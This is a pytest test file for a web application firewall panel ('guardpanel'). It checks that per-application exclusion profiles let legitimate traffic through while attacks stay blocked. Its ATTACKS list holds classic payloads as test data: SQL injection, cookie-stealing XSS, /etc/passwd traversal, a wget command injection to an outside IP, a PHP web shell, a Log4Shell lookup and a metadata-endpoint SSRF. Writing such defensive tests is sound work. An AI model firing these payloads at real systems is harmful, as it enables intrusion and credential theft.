"""Application profiles: what each application sends passes with its profile, and attacks beside that stay blocked.

The requests are in `profiles/`, a file for each profile: what applications send, written for guardpanel.
"""

import base64
import json
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from guardpanel.engines import RuleRole
from guardpanel.models.rules.rule_choices import ids
from guardpanel.services.profiles.catalogue import profiles
from guardpanel.services.rules.exclusion_checks import must_have_effect
from tests.live.judging import EvaluatedRequest, Judge, a_request
from tests.rows import rows
from tests.rule_set import rule_set

Request = dict[str, Any]

KEYS = tuple(profiles())
PREFIXES = {"rich-text": "/admin"}
"Of profiles that are meant for a part of a site."

ATTACKS = (
    "1' union select password from users-- ", "<script>alert(document.cookie)</script>", "../../../../etc/passwd",
    ";cat /etc/passwd", "$(wget http://198.51.100.1/x)", "<?php system($_GET['c']); ?>", "${jndi:ldap://198.51.100.1/a}",
    "1 or sleep(5)#", "<img src=x onerror=alert(1)>", "http://169.254.169.254/latest/meta-data/",
    "require('child_process').exec('id')", "1' or '1'='1",
)  # fmt: skip

NOT_INSPECTED = {("nextcloud", "PUT")}
"As the price says: uploads, their query too."


@cache
def requests(key: str) -> list[Request]:
    requests: list[Request] = json.loads((Path(__file__).parent / "profiles" / f"{key}.json").read_text("utf-8"))
    return requests


@pytest.fixture(scope="module")
def judge() -> Iterator[Judge]:
    """A policy for each profile, and the last without any: guardpanel's defaults, blocking."""
    policies = {key: {"enforcement_mode": "block"} for key in (*KEYS, "without")}
    exclusions = [
        {"policy": key, **fields.model_dump(mode="json")}
        for key in KEYS
        for fields in profiles()[key].below(PREFIXES.get(key, ""))
    ]
    with Judge(rows(policies, {}, exclusions=exclusions)) as made:
        yield made


def evaluated(request: Request, query: str = "") -> EvaluatedRequest:
    sent = request["request"]
    body = base64.b64decode(sent["body_base64"]) if "body_base64" in sent else sent.get("body", "").encode()
    uri = sent["path"] + (("&" if "?" in sent["path"] else "?") + query if query else "")
    return {
        "client": "198.51.100.23", "method": sent["method"], "uri": uri, "version": "1.1", "headers": sent["headers"],
        "body": base64.b64encode(body).decode(),
    }  # fmt: skip


@pytest.mark.parametrize("key", KEYS)
def test_what_an_application_sends_passes_with_its_profile(judge: Judge, key: str) -> None:
    with_profile, without = KEYS.index(key) + 1, len(KEYS) + 1
    verdicts = {request["name"]: judge.says(evaluated(request), with_profile)["verdict"] for request in requests(key)}

    assert [name for name, verdict in verdicts.items() if verdict == "blocked"] == []
    assert "blocked" in {judge.says(evaluated(request), without)["verdict"] for request in requests(key)}


@pytest.mark.parametrize("key", KEYS)
def test_attacks_on_the_same_host_stay_blocked(judge: Judge, key: str) -> None:
    """Each request with an attack in an argument that it does not have, and every attack on an address of nobody's."""
    with_profile, without = KEYS.index(key) + 1, len(KEYS) + 1
    attacks = [a_request("GET", f"/nobody/s?zz={quote(attack)}") for attack in ATTACKS]
    attacks += [
        evaluated(request, f"zz={quote(ATTACKS[at % len(ATTACKS)])}")
        for at, request in enumerate(requests(key))
        if (key, request["request"]["method"]) not in NOT_INSPECTED
    ]
    verdicts = [
        (attack["method"], attack["uri"], judge.says(attack, with_profile)["verdict"])
        for attack in attacks
        if judge.says(attack, without)["verdict"] == "blocked"
    ]

    assert len(verdicts) >= len(attacks) - 4
    assert [verdict for verdict in verdicts if verdict[-1] != "blocked"] == []


@pytest.mark.parametrize("key", KEYS)
def test_each_exclusion_of_a_profile_has_an_effect(key: str) -> None:
    for fields in profiles()[key].below("/app"):
        must_have_effect(fields, rule_set())
        for choice in fields.rules:
            if len(ids(choice) or ()) == 1:
                rule = rule_set().rules[int(choice)]
                assert (rule.role, rule.paranoia_level) in {(RuleRole.DETECT, 1), (RuleRole.DETECT, None)}, choice


def test_every_profile_has_requests() -> None:
    """And names the rule set under which they pass."""
    assert {profile.crs_version for profile in profiles().values()} == {rule_set().crs_version}
    files = {path.stem for path in (Path(__file__).parent / "profiles").glob("*.json")}

    assert files == set(KEYS)
    assert min(len(requests(key)) for key in ("wordpress", "nextcloud", "phpmyadmin", "grafana")) >= 30
